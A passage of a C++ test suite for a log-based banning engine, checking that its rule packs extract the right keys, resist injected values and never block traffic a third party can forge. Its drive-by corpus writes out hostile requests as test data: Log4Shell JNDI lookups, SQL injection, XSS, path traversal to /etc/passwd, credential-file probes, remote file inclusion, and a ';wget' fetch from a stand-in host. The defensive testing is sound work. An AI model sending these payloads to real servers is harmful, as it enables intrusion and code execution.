// Loads every shipped pack through the production loader, compiles them together (ids must be
// unique across packs), and checks each rule's examples: the line parses in the rule's first
// format, the rule matches, and it extracts exactly the annotated key; counter-examples must not
// match that rule. A rule with a field a client writes (a variable-length piece beyond digits and
// spaces: a user name, a path, a header) must carry an injection example: a line where that
// field holds a smuggled key, from which the rule still extracts the server's.
// Session rules (Rule.session) take examples of several lines, separated by "\n", fed in order
// through a fresh engine: the key is what the rule extracts from the last line (for a note_only
// rule, what it notes). A rule that matches every counter-example written for its format, in
// all the packs, matches everything and is refused. Every raw example parses with a time (the
// raw parser reads its stamp), but those listed in kUntimedRawExamples with why. No rule that
// blocks may match what a page can make its readers' browsers send (a drive-by corpus of URLs
// and referers with stock user agents, as access logs, nginx's and Apache's error logs and
// Cloudflare Logpush records write it): a page would ban its readers. Nor may one match what one
// UDP packet with a forged source makes a server log, or the line a user name holding a newline
// writes after the server's own: whoever sends them would choose whom to ban.

#include <iterator>
#include <map>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "gtest/gtest.h"
#include "rules/shipped_packs.h"
#include "services/common/fingerprint.h"
#include "services/engine/engine.h"
#include "services/engine/rule_set.h"
#include "services/formats/line_parser.h"

namespace palisade {
namespace {

// Returns the keys `rule_id` extracts from the last line of `text` ("\n"-separated lines, fed in
// order through a fresh engine so that sessions carry from one to the next). A note_only rule
// never counts: its keys are what its patterns capture.
std::vector<std::string> KeysFor(const std::shared_ptr<const RuleSet>& set,
                                 palisade::v1::LogFormat format, const std::string& text,
                                 const std::string& rule_id, std::string* parse_error) {
  Engine engine(set, EngineOptions());
  LineParser parser(format);
  ParsedLine parsed;
  std::vector<std::string> keys;
  const std::vector<std::string> lines = absl::StrSplit(text, '\n');
  for (size_t i = 0; i < lines.size(); ++i) {
    const absl::Time time = absl::FromUnixSeconds(1'772'000'000 + static_cast<int64_t>(i));
    absl::Status s = parser.Parse(lines[i], time, &parsed);
    if (!s.ok()) {
      *parse_error = s.ToString();
      return {};
    }
    keys.clear();
    engine.MatchOnly(
        format, parsed,
        [&](const CompiledRule& rule, absl::string_view key) {
          if (rule.id() == rule_id) keys.emplace_back(key);
        },
        time);
  }
  for (const auto& rule : set->rules()) {
    if (rule->id() != rule_id || !rule->proto.session().note_only()) continue;
    for (size_t p = 0; p < rule->patterns.size() && keys.empty(); ++p) {
      std::vector<re2::StringPiece> groups(rule->submatches[p]);
      if (rule->patterns[p]->Match(Piece(parsed.message), 0, parsed.message.size(),
                                   RE2::UNANCHORED, groups.data(), groups.size())) {
        const re2::StringPiece& key = groups[rule->key_group[p]];
        keys.emplace_back(key.data(), key.size());
      }
    }
  }
  return keys;
}

TEST(PackTest, EveryPackLoadsAndEveryExampleHolds) {
  std::vector<std::string> files = FilesIn("rules", ".textproto");
  ASSERT_GE(files.size(), 4u) << "packs missing under rules/";
  std::vector<LoadedPack> packs;
  for (const std::string& f : files) {
    absl::StatusOr<LoadedPack> pack = LoadRulePackFile(f);
    ASSERT_TRUE(pack.ok()) << pack.status();
    packs.push_back(*std::move(pack));
  }
  // The CIDR sets packs may name in conditions, as a deployment would define them.
  const CidrSets sets = ShippedPackCidrSets();
  absl::StatusOr<std::shared_ptr<const RuleSet>> set = RuleSet::Compile(packs, sets);
  ASSERT_TRUE(set.ok()) << set.status();

  // Every counter-example per format, from all packs: a rule matching each of them matches
  // everything.
  std::map<int, std::vector<std::string>> counter_pool;
  for (const auto& rule : (*set)->rules()) {
    for (const auto& line : rule->proto.counter_examples()) {
      counter_pool[rule->proto.formats(0)].push_back(line);
    }
  }

  int examples = 0;
  for (const auto& rule : (*set)->rules()) {
    const auto format = static_cast<palisade::v1::LogFormat>(rule->proto.formats(0));
    EXPECT_GT(rule->proto.examples_size(), 0) << rule->id() << " has no examples";
    bool free_text = false;
    for (size_t p = 0; p < rule->patterns.size(); ++p) {
      if (rule->key_group[p] < 0) continue;  // a session rule's key from its session
      const std::string& pattern = rule->proto.patterns(static_cast<int>(p));
      absl::StatusOr<KeyPlacement> placement = AnalyzeKeyPlacement(pattern, rule->proto.key());
      ASSERT_TRUE(placement.ok()) << rule->id() << ": " << placement.status();
      free_text |= placement->has_free_text_field;
    }
    int injections = 0;
    for (const auto& ex : rule->proto.examples()) {
      if (!ex.smuggled_key().empty()) {
        ++injections;
        EXPECT_NE(ex.smuggled_key(), ex.key()) << rule->id() << " on: " << ex.line();
        EXPECT_TRUE(absl::StrContains(ex.line(), ex.smuggled_key()))
            << rule->id() << ": the injection line does not hold its smuggled key: " << ex.line();
      }
      std::string err;
      const auto ex_format =
          ex.format() != palisade::v1::LOG_FORMAT_UNSPECIFIED ? ex.format() : format;
      std::vector<std::string> keys = KeysFor(*set, ex_format, ex.line(), rule->id(), &err);
      EXPECT_TRUE(err.empty()) << rule->id() << ": example does not parse: " << err;
      EXPECT_EQ(keys, std::vector<std::string>{ex.key()}) << rule->id() << " on: " << ex.line();
      if (rule->proto.key_kind() == palisade::v1::TARGET_KIND_TOKEN_FINGERPRINT) {
        // Evidence redaction knows token shapes by hand (services/common/fingerprint.h): every
        // token a token rule detects must also be one it redacts from other rules' evidence.
        bool redacted = false;
        for (absl::string_view token : FindTokenShapes(ex.line())) {
          redacted |= Fingerprint(token) == ex.key();
        }
        EXPECT_TRUE(redacted) << rule->id() << ": FindTokenShapes misses the token of: "
                              << ex.line();
      }
      ++examples;
    }
    if (free_text) {
      EXPECT_GT(injections, 0) << rule->id()
                               << " has a field a client writes but no injection example "
                                  "(an example with smuggled_key)";
    }
    for (const auto& line : rule->proto.counter_examples()) {
      std::string err;
      std::vector<std::string> keys = KeysFor(*set, format, line, rule->id(), &err);
      EXPECT_TRUE(keys.empty()) << rule->id() << " must not match: " << line << " (got "
                                << absl::StrJoin(keys, ",") << ")";
    }
    const std::vector<std::string>& pool = counter_pool[rule->proto.formats(0)];
    if (pool.size() >= 5) {
      size_t matched = 0;
      for (const std::string& line : pool) {
        std::string err;
        matched += !KeysFor(*set, format, line, rule->id(), &err).empty();
      }
      EXPECT_LT(matched, pool.size())
          << rule->id() << " matches every one of the " << pool.size()
          << " counter-examples written for its format: it matches everything";
    }
  }
  EXPECT_GE(examples, 10);
}

// Raw examples whose service writes no stamp with one reading, each with why. Every other raw
// example must parse with a time (the check below); a listed one that gains a time fails too, so
// the list only shrinks as the parser learns shapes.
struct UntimedRawExample {
  const char* rule;
  const char* line_prefix;  // the rule's raw examples that start with it ("": all of them)
  const char* why;
};
constexpr UntimedRawExample kUntimedRawExamples[] = {
    {"squirrelmail-login-failed", "",
     "\"10/06/2013\": squirrel_logger's date format is set per install, mm/dd or dd/mm"},
    {"domino-smtp-auth-failed", "03-07-2005 ",
     "\"03-07-2005\": the console log writes the server's locale's date, dd-mm or mm-dd"},
    {"domino-smtp-auth-failed", "[28325:",
     "\"22-06-2014\" after the thread ids: the server's locale's date, dd-mm or mm-dd"},
    {"3proxy-auth-failed", "",
     "\"11-06-2013\": 3proxy's logformat is set per install (%d-%m-%Y or %m-%d-%Y)"},
    {"freeswitch-auth-failed", "08-03 ", "\"08-03 08:10:21\": no year, and mm-dd or dd-mm"},
    {"guacamole-login-failed", "",
     "catalina.out writes the date on the line before the WARNING; logback's default pattern "
     "writes the time of day only"},
    {"ejabberd-auth-failed", "I(<",
     "ejabberd 2.x writes the time on the \"=INFO REPORT====\" line before the record"},
    {"openhab-auth-failed", "",
     "the NCSA time follows the client's user field, with a localised month (\"sept.\")"},
    {"nextcloud-login-failed", "", "a JSON record: its time is a field, not a leading stamp"},
    {"cloudflare-token-leaked", "", "any program's text leaking a token: no stamp of its own"},
    {"grafana-login-failed", "logger=",
     "Grafana 8+ writes t= after the client's uname=: not read, so no user name dates a line"},
    {"murmur-rejected", "Test murmurd[",
     "a journal line without its time (fail2ban's sample); the syslog formats read the journal"},
    {"znc-login-failed", "Test znc[",
     "a journal line without its time (fail2ban's sample); the syslog formats read the journal"},
    {"bind-query-refused", "atom named[",
     "a syslog line without its time (fail2ban's sample); the syslog formats read it"},
};

// A raw line is timed by its leading stamp only (services/formats/line_parser.h). A service whose
// stamp the parser cannot read has its lines counted when they are read, not when written: a
// backlog (a first start, a file read from its top, `palisadectl ship`) collapses to one instant,
// and five failures over a month become five in the rule's window, and a ban.
TEST(PackTest, EveryRawExampleHasATime) {
  absl::StatusOr<std::shared_ptr<const RuleSet>> set = CompileShippedPacks();
  ASSERT_TRUE(set.ok()) << set.status();
  std::vector<bool> listed_used(std::size(kUntimedRawExamples), false);
  int timed = 0;
  for (const auto& rule : (*set)->rules()) {
    const auto format = static_cast<palisade::v1::LogFormat>(rule->proto.formats(0));
    for (const auto& ex : rule->proto.examples()) {
      const auto ex_format =
          ex.format() != palisade::v1::LOG_FORMAT_UNSPECIFIED ? ex.format() : format;
      if (ex_format != palisade::v1::LOG_FORMAT_RAW) continue;
      for (absl::string_view line : absl::StrSplit(ex.line(), '\n')) {
        LineParser parser(palisade::v1::LOG_FORMAT_RAW);
        ParsedLine parsed;
        ASSERT_TRUE(parser.Parse(line, absl::FromUnixSeconds(1'772'000'000), &parsed).ok());
        const UntimedRawExample* listed = nullptr;
        for (size_t i = 0; i < std::size(kUntimedRawExamples); ++i) {
          const UntimedRawExample& entry = kUntimedRawExamples[i];
          if (rule->id() == entry.rule && absl::StartsWith(line, entry.line_prefix)) {
            listed = &entry;
            listed_used[i] = true;
          }
        }
        if (listed == nullptr) {
          EXPECT_TRUE(parsed.time.has_value())
              << rule->id() << ": a raw example whose stamp the raw parser does not read, so "
              << "its lines count when read (read the shape in LineParser::ParseRaw, or list "
              << "the example in kUntimedRawExamples with why): " << line;
        } else {
          EXPECT_FALSE(parsed.time.has_value())
              << rule->id() << ": listed as untimed (" << listed->why
              << ") but it has a time: drop it from kUntimedRawExamples: " << line;
        }
        timed += parsed.time.has_value();
      }
    }
  }
  for (size_t i = 0; i < std::size(kUntimedRawExamples); ++i) {
    EXPECT_TRUE(listed_used[i]) << kUntimedRawExamples[i].rule << " \""
                                << kUntimedRawExamples[i].line_prefix
                                << "\" is listed as untimed but names no raw example: drop it";
  }
  EXPECT_GE(timed, 200);
}

// What a page can make its readers' browsers send (a forum post or an ad with <img src>, a link,
// a form or a no-cors fetch, from each reader's own address, with a stock user agent and the
// page's URL as the referer): the request line (GET or POST, any path and query) and the
// referer. The server answers with whatever it answers (200, 404, WordPress's 200 to a failed
// login). No rule whose decision is a block may match any such line, in any shipped pack: a page
// would ban its readers. Challenges are fine (a person passes them). Kept in the shapes a web
// server's line reaches the engine in: combined, with a virtual host in front, and through syslog.
struct DriveByRequest {
  const char* method;
  const char* target;  // path and query, as the server logs them
  const char* status;
};
constexpr DriveByRequest kDriveByRequests[] = {
    {"GET", "/?q=${jndi:ldap://x.example.net/a}", "200"},
    {"GET", "/?q=$%7Bjndi:ldap://x.example.net/a%7D", "200"},
    {"GET", "/.env", "404"},
    {"GET", "/.git/config", "404"},
    {"GET", "/.aws/credentials", "404"},
    {"GET", "/backup.sql", "404"},
    {"POST", "/wp-login.php", "200"},
    {"GET", "/wp-login.php", "200"},
    {"POST", "/xmlrpc.php", "200"},
    {"GET", "/HNAP1/", "404"},
    {"GET", "/wp-admin/setup-config.php", "404"},
    {"GET", "/phpmyadmin/", "404"},
    {"GET", "/static/..%2f..%2f..%2fetc/passwd", "404"},
    {"GET", "/?file=../../../../etc/passwd", "200"},
    {"GET", "/?id=1'%20OR%201=1--", "200"},
    {"GET", "/?id=1%27+OR+1=1--", "200"},
    {"GET", "/?id=1+UNION+SELECT+1,2,3--", "200"},
    {"GET", "/?q=<script>alert(1)</script>", "200"},
    {"GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "200"},
    {"GET", "/?c=;wget+http://x.example.net/a.sh", "200"},
    {"GET", "/cgi-bin/test.cgi?;wget%20http://x.example.net/a.sh", "404"},
    {"GET", "/?u=http://x.example.net/shell.txt", "200"},
    {"GET", "/index.php?page=http://x.example.net/shell.txt?", "200"},
    {"GET", "/no-such-page", "404"},
    {"GET", "/img/a1.png", "404"},
    {"GET", "/~root", "404"},
    // Answers a page's requests can earn too: a path behind `deny` or basic auth, a log-in form.
    {"GET", "/admin/", "403"},
    {"POST", "/login", "401"},
    {"GET", "/api/v2/keys", "401"},
    // A path of a basic-auth app that logs in the common format (openHAB's REST API).
    {"GET", "/rest/items", "401"},
};
constexpr const char* kStockAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
};
constexpr const char* kForumPage = "https://forum.example.org/t/welcome/12";

TEST(PackTest, NoBlockingRuleMatchesWhatAPageMakesABrowserSend) {
  absl::StatusOr<std::shared_ptr<const RuleSet>> set = CompileShippedPacks();
  ASSERT_TRUE(set.ok()) << set.status();
  std::vector<std::string> lines;
  // The request line alone, as the common log format (Apache's `common`, Jetty's NCSA request
  // log) writes it: no referer, no user agent, so nothing but the answer tells a page's request.
  std::vector<std::string> common_lines;
  for (const DriveByRequest& r : kDriveByRequests) {
    common_lines.push_back(absl::StrCat("203.0.113.9 - - [03/Mar/2026:14:02:01 +0000] \"",
                                        r.method, " ", r.target, " HTTP/1.1\" ", r.status, " 153"));
    for (const char* agent : kStockAgents) {
      // The payload in the request line, the forum page as the referer.
      lines.push_back(absl::StrCat("203.0.113.9 - - [03/Mar/2026:14:02:01 +0000] \"", r.method, " ",
                                   r.target, " HTTP/1.1\" ", r.status, " 153 \"", kForumPage,
                                   "\" \"", agent, "\""));
      // The payload in the referer (the page's own URL), the request a plain one.
      lines.push_back(absl::StrCat("203.0.113.9 - - [03/Mar/2026:14:02:01 +0000] ",
                                   "\"GET / HTTP/1.1\" 200 612 \"https://forum.example.org",
                                   r.target, "\" \"", agent, "\""));
    }
  }
  struct Shape {
    palisade::v1::LogFormat format;
    const char* prefix;
    const std::vector<std::string>* bodies;
  };
  const Shape shapes[] = {
      {palisade::v1::LOG_FORMAT_COMBINED, "", &lines},
      {palisade::v1::LOG_FORMAT_COMBINED_VHOST, "www.example.com:443 ", &lines},
      {palisade::v1::LOG_FORMAT_SYSLOG, "Mar  3 14:02:01 web-1 nginx: ", &lines},
      {palisade::v1::LOG_FORMAT_SYSLOG5424, "<190>1 2026-03-03T14:02:01Z web-1 apache2 - - - ",
       &lines},
      {palisade::v1::LOG_FORMAT_COMBINED, "", &common_lines},
  };
  Engine engine(*set, EngineOptions());
  const absl::Time time = absl::FromUnixSeconds(1'772'000'000);
  int checked = 0;
  for (const Shape& shape : shapes) {
    LineParser parser(shape.format);
    for (const std::string& body : *shape.bodies) {
      const std::string line = absl::StrCat(shape.prefix, body);
      ParsedLine parsed;
      ASSERT_TRUE(parser.Parse(line, time, &parsed).ok()) << line;
      engine.MatchOnly(
          shape.format, parsed,
          [&](const CompiledRule& rule, absl::string_view) {
            EXPECT_NE(rule.proto.decision().action(), palisade::v1::ACTION_BLOCK)
                << rule.pack << "/" << rule.id()
                << " blocks what a page can make its readers' browsers send (challenge it, or "
                   "match it only in the user agent): "
                << line;
          },
          time);
      ++checked;
    }
  }
  EXPECT_GE(checked, 400);
}

// What one UDP packet with a forged source address makes a server log: a lookup or a policy
// check on the first packet, before any round trip that would prove the address (a SIP REGISTER
// or INVITE for an unknown peer or endpoint, a foreign domain, an ACL refusal; a tftp request
// outside xinetd's only_from). Anyone can make these name any address, so no rule whose decision
// is a block may match them: a managed challenge lets a forged victim pass.
constexpr std::pair<palisade::v1::LogFormat, const char*> kForgedUdpSourceLines[] = {
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[1638] chan_sip.c: Registration from '<sip:100@192.0.2.5>' "
     "failed for '198.51.100.7:5060' - No matching peer found"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[1638] chan_sip.c: Registration from '<sip:100@example.net>' "
     "failed for '198.51.100.7:5060' - Not a local domain"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[1638] chan_sip.c: Registration from '<sip:100@192.0.2.5>' "
     "failed for '198.51.100.7:5060' - Device does not match ACL"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[1638] chan_sip.c: Registration from '<sip:100@192.0.2.5>' "
     "failed for '198.51.100.7:5060' - ACL error (permit/deny)"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[1638] chan_sip.c: Registration from '<sip:100@192.0.2.5>' "
     "failed for '198.51.100.7:5060' - Peer is not supposed to register"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[1638] chan_sip.c: Registration from '<sip:100@192.0.2.5>' "
     "failed for '198.51.100.7:5060' - Username/auth name mismatch"},
    {palisade::v1::LOG_FORMAT_SYSLOG,
     "Mar  3 14:02:01 pbx asterisk[811]: NOTICE[566]: chan_sip.c:28926 handle_request_register: "
     "Registration from '<sip:100@192.0.2.5>' failed for '[2001:db8::7]:5060' - No matching "
     "peer found"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[19388] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from "
     "'<sip:100@192.0.2.5>' failed for '198.51.100.7:5060' (callid: 1820392415) - No matching "
     "endpoint found"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[19388] res_pjsip/pjsip_distributor.c: Request 'INVITE' from "
     "'<sip:100@192.0.2.5>' failed for '[2001:db8::7]:5060' (callid: 1820392415) - Not match "
     "Endpoint ACL"},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01] NOTICE[19388] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from "
     "'<sip:100@192.0.2.5>' failed for '198.51.100.7:5060' (callid: 1820392415) - Not match "
     "Endpoint Contact ACL"},
    {palisade::v1::LOG_FORMAT_SYSLOG,
     "Mar  3 14:02:01 boot xinetd[811]: FAIL: tftp address from=198.51.100.7"},
    // Asterisk's security log of the same first packets (fail2ban's asterisk test log).
    {palisade::v1::LOG_FORMAT_RAW,
     "[2013-05-13 07:10:53] SECURITY[1204] res_security_log.c: "
     "SecurityEvent=\"InvalidAccountID\",EventTV=\"1368439853-500975\",Severity=\"Error\","
     "Service=\"SIP\",EventVersion=\"1\",AccountID=\"00972599580679\","
     "SessionID=\"0x7f8ecc0421f8\",LocalAddress=\"IPV4/UDP/192.0.2.5/5060\","
     "RemoteAddress=\"IPV4/UDP/198.51.100.7/5060\""},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2014-01-10 16:39:06] SECURITY[1503] res_security_log.c: "
     "SecurityEvent=\"FailedACL\",EventTV=\"1389368346-880526\",Severity=\"Error\","
     "Service=\"SIP\",EventVersion=\"1\",AccountID=\"\",SessionID=\"0x7ff408103b18\","
     "LocalAddress=\"IPV4/UDP/192.0.2.5/5060\",RemoteAddress=\"IPV4/UDP/198.51.100.7/5066\","
     "ACLName=\"domain_must_match\""},
    {palisade::v1::LOG_FORMAT_SYSLOG,
     "Mar  3 14:02:01 boot xinetd[811]: FAIL: tftp libwrap from=2001:db8::7"},
};

TEST(PackTest, NoBlockingRuleMatchesWhatOneForgedUdpPacketCauses) {
  absl::StatusOr<std::shared_ptr<const RuleSet>> set = CompileShippedPacks();
  ASSERT_TRUE(set.ok()) << set.status();
  Engine engine(*set, EngineOptions());
  const absl::Time time = absl::FromUnixSeconds(1'772'000'000);
  for (const auto& [format, line] : kForgedUdpSourceLines) {
    LineParser parser(format);
    ParsedLine parsed;
    ASSERT_TRUE(parser.Parse(line, time, &parsed).ok()) << line;
    int matched = 0;
    engine.MatchOnly(
        format, parsed,
        [&](const CompiledRule& rule, absl::string_view key) {
          ++matched;
          EXPECT_NE(rule.proto.decision().action(), palisade::v1::ACTION_BLOCK)
              << rule.pack << "/" << rule.id() << " blocks " << key
              << " on what one forged UDP packet makes the server log (challenge it): " << line;
        },
        time);
    // The lines are what the packs are about: a corpus no rule reads tests nothing.
    EXPECT_GT(matched, 0) << "no rule reads: " << line;
  }
}

// What a user name holding a newline makes a server write after its own line: a second line of
// the client's text, a whole failure naming another address. Through syslog PostgreSQL splits
// every record and numbers its pieces ("[3-2] " is the second; "[2] " with
// syslog_sequence_numbers off). Vaultwarden's log has no framing: a name can forge its prefix
// too, so a rule reading that line may challenge, never block. No blocking rule may read these.
constexpr std::pair<palisade::v1::LogFormat, const char*> kForgedContinuationLines[] = {
    {palisade::v1::LOG_FORMAT_SYSLOG,
     "Mar  3 14:02:01 db2 postgres[4245]: [2] 2026-03-03 14:02:01 UTC [1] 198.51.100.7 a@b "
     "FATAL:  password authentication failed for user \"x\""},
    {palisade::v1::LOG_FORMAT_SYSLOG,
     "Mar  3 14:02:01 db2 postgres[4245]: [3-2] 2026-03-03 14:02:01.118 UTC [1] 198.51.100.7 a@b "
     "FATAL:  password authentication failed for user \"x\""},
    {palisade::v1::LOG_FORMAT_RAW,
     "Username or password is incorrect. Try again. IP: 198.51.100.7. Username: y."},
    {palisade::v1::LOG_FORMAT_SYSLOG,
     "Mar  3 14:02:01 vault vaultwarden[811]: Username or password is incorrect. Try again. IP: "
     "198.51.100.7. Username: y."},
    {palisade::v1::LOG_FORMAT_RAW,
     "[2026-03-03 14:02:01.118][vaultwarden::api::identity][ERROR] Username or password is "
     "incorrect. Try again. IP: 198.51.100.7. Username: y."},
    {palisade::v1::LOG_FORMAT_SYSLOG,
     "Mar  3 14:02:01 vault vaultwarden[811]: [2026-03-03 14:02:01.118][vaultwarden::api::"
     "identity][ERROR] Username or password is incorrect. Try again. IP: 198.51.100.7. "
     "Username: y."},
};

TEST(PackTest, NoBlockingRuleReadsALineAUserNameWrote) {
  absl::StatusOr<std::shared_ptr<const RuleSet>> set = CompileShippedPacks();
  ASSERT_TRUE(set.ok()) << set.status();
  Engine engine(*set, EngineOptions());
  const absl::Time time = absl::FromUnixSeconds(1'772'000'000);
  for (const auto& [format, line] : kForgedContinuationLines) {
    LineParser parser(format);
    ParsedLine parsed;
    ASSERT_TRUE(parser.Parse(line, time, &parsed).ok()) << line;
    engine.MatchOnly(
        format, parsed,
        [&](const CompiledRule& rule, absl::string_view key) {
          EXPECT_NE(rule.proto.decision().action(), palisade::v1::ACTION_BLOCK)
              << rule.pack << "/" << rule.id() << " blocks " << key
              << " on a line a client's user name wrote: " << line;
        },
        time);
  }
}

// `s` as a JSON string (the corpus holds no control bytes).
std::string JsonQuoted(absl::string_view s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"' || c == '\\') out.push_back('\\');
    out.push_back(c);
  }
  out.push_back('"');
  return out;
}

// The drive-by requests as the other logs a page's requests reach write them: nginx's error log
// (a missing file, a directory without its index, a path behind `deny`, a limit_req rejection;
// written to a file and relayed through syslog), Apache's (2.4, 2.2 and ErrorLog syslog: a
// missing file or script, a denied path, a ModSecurity denial of the payload, and the lines of
// no one path: php-fpm's Primary script unknown, an overlong URL, TLS sent to the plain port),
// and Cloudflare Logpush (http_requests from one ClientIP, the origin's answer as the server's;
// firewall_events of the WAF's blocks and challenges, and of Palisade's own access rules).
std::vector<std::pair<palisade::v1::LogFormat, std::string>> DriveByErrorAndEdgeLines() {
  std::vector<std::pair<palisade::v1::LogFormat, std::string>> out;
  const std::string client = "203.0.113.9";
  constexpr const char* kNginxPrefixes[] = {
      "2026/03/03 14:02:01 [error] 2865#2865: *7 ",
      "Mar  3 14:02:01 web-1 nginx: [error] 2865#2865: *7 ",
  };
  for (const DriveByRequest& r : kDriveByRequests) {
    const absl::string_view target(r.target);
    const absl::string_view path = target.substr(0, target.find('?'));
    for (const std::string& referer :
         {std::string(kForumPage), absl::StrCat("https://forum.example.org", r.target)}) {
      const std::string tail =
          absl::StrCat("client: ", client, ", server: example.com, request: \"", r.method, " ",
                       r.target, " HTTP/1.1\", host: \"example.com\", referrer: \"", referer, "\"");
      for (const char* prefix : kNginxPrefixes) {
        // A missing file, or a directory without its index (ngx_http_index_module).
        const std::string missing =
            absl::EndsWith(path, "/")
                ? absl::StrCat("\"/usr/share/nginx/html", path,
                               "index.html\" is not found (2: No such file or directory), ", tail)
                : absl::StrCat("open() \"/usr/share/nginx/html", path,
                               "\" failed (2: No such file or directory), ", tail);
        for (const std::string& message : {
                 missing,
                 absl::StrCat("access forbidden by rule, ", tail),
                 absl::StrCat("limiting requests, excess: 20.100 by zone \"one\", ", tail),
             }) {
          out.emplace_back(palisade::v1::LOG_FORMAT_NGINX_ERROR, absl::StrCat(prefix, message));
        }
      }
    }
    for (const char* root : {"/var/www/html", "/var/www"}) {
      const std::string file = absl::StrCat(root, path);
      const std::string referer = absl::StrCat(", referer: ", kForumPage);
      const std::pair<const char*, std::string> v24[] = {
          {"core:info", absl::StrCat("AH00128: File does not exist: ", file)},
          {"cgi:error", absl::StrCat("AH01264: script not found or unable to stat: ", file)},
          {"authz_core:error",
           absl::StrCat("AH01630: client denied by server configuration: ", file)},
          {"security2:error",
           absl::StrCat("[client ", client,
                        "] ModSecurity: Access denied with code 403 (phase 2). Operator GE "
                        "matched 5 at TX:anomaly_score. [file \"/usr/share/modsecurity-crs/rules/"
                        "REQUEST-949-BLOCKING-EVALUATION.conf\"] [line \"80\"] [id \"949110\"] "
                        "[msg \"Inbound Anomaly Score Exceeded (Total Score: 5)\"] [hostname "
                        "\"example.com\"] [uri \"",
                        path, "\"] [unique_id \"ZaZbZc\"]")},
      };
      for (const auto& [module, message] : v24) {
        out.emplace_back(palisade::v1::LOG_FORMAT_APACHE_ERROR,
                         absl::StrCat("[Tue Mar 03 14:02:01.123456 2026] [", module,
                                      "] [pid 1234:tid 140123104306944] [client ", client,
                                      ":51234] ", message, referer));
        out.emplace_back(
            palisade::v1::LOG_FORMAT_APACHE_ERROR,
            absl::StrCat("Mar  3 14:02:01 web-2 apache2[1300]: [", module, "] [pid 1300] [client ",
                         client, ":51234] ", message, referer));
      }
      for (const std::string& message :
           {absl::StrCat("File does not exist: ", file),
            absl::StrCat("script '", file, "' not found or unable to stat")}) {
        out.emplace_back(palisade::v1::LOG_FORMAT_APACHE_ERROR,
                         absl::StrCat("[Tue Mar 03 14:02:01 2026] [error] [client ", client, "] ",
                                      message, referer));
      }
    }
    for (const char* agent : kStockAgents) {
      // The payload in the request (answered as the corpus says), then in the referer.
      for (const bool in_referer : {false, true}) {
        const std::string uri = in_referer ? "/" : r.target;
        const std::string status = in_referer ? "200" : r.status;
        out.emplace_back(
            palisade::v1::LOG_FORMAT_LOGPUSH_HTTP_REQUESTS,
            absl::StrCat(
                "{\"ClientIP\":\"", client,
                "\",\"ClientRequestHost\":\"example.com\",\"ClientRequestMethod\":\"",
                in_referer ? "GET" : r.method, "\",\"ClientRequestPath\":",
                JsonQuoted(uri.substr(0, uri.find('?'))), ",\"ClientRequestURI\":", JsonQuoted(uri),
                ",\"ClientRequestProtocol\":\"HTTP/2\",\"ClientRequestReferer\":",
                JsonQuoted(in_referer ? absl::StrCat("https://forum.example.org", r.target)
                                      : std::string(kForumPage)),
                ",\"ClientRequestUserAgent\":", JsonQuoted(agent),
                ",\"EdgeResponseBytes\":153,\"EdgeResponseStatus\":", status,
                ",\"OriginResponseStatus\":", status,
                ",\"EdgeStartTimestamp\":\"2026-03-03T14:02:01Z\",\"RayID\":\"7d1c2a3b4c5d6e7f\","
                "\"CacheCacheStatus\":\"dynamic\"}"));
      }
    }
    // The WAF's answers to the request (a managed rule blocks or challenges the payload), and
    // those of Palisade's own challenge access rules (Source "ip") to a reader it challenged.
    for (const char* action : {"block", "managed_challenge", "challenge", "jschallenge"}) {
      for (const char* source : {"firewallManaged", "ip"}) {
        const size_t at = target.find('?');
        const absl::string_view query =
            at == absl::string_view::npos ? absl::string_view() : target.substr(at);
        out.emplace_back(
            palisade::v1::LOG_FORMAT_LOGPUSH_FIREWALL_EVENTS,
            absl::StrCat(
                "{\"Action\":\"", action,
                "\",\"ClientASNDescription\":\"EXAMPLE-AS\",\"ClientCountry\":\"xx\","
                "\"ClientIP\":\"",
                client, "\",\"ClientRequestHost\":\"example.com\",\"ClientRequestMethod\":\"",
                r.method, "\",\"ClientRequestPath\":", JsonQuoted(path),
                ",\"ClientRequestProtocol\":\"HTTP/2\",\"ClientRequestQuery\":", JsonQuoted(query),
                ",\"ClientRequestUserAgent\":", JsonQuoted(kStockAgents[0]),
                ",\"Datetime\":\"2026-03-03T14:02:01Z\",\"EdgeResponseStatus\":403,"
                "\"Kind\":\"firewall\",\"OriginResponseStatus\":0,\"RayName\":"
                "\"7d1c2a3b4c5d6e7f\",\"RuleID\":\"6179ae15870a4bb7b2d480d4843b323c\","
                "\"Source\":\"",
                source, "\"}"));
      }
    }
  }
  // Lines of no one path: php-fpm's answer to any missing .php, a URL past LimitRequestLine (an
  // <img src> 9 KB long), and a TLS ClientHello sent to the plain-HTTP port by
  // <img src="https://this-site:80/">, as Apache 2.4 and 2.2 write it.
  for (const std::string& message :
       {absl::StrCat("[proxy_fcgi:error] [pid 1234:tid 140123104306944] [client ", client,
                     ":51234] AH01071: Got error 'Primary script unknown', referer: ", kForumPage),
        absl::StrCat("[core:error] [pid 1234:tid 140123104306944] [client ", client,
                     ":51234] AH00565: request failed: URI too long (longer than 8190)"),
        absl::StrCat("[core:error] [pid 1234:tid 140123104306944] [client ", client,
                     ":51234] AH00126: Invalid URI in request "
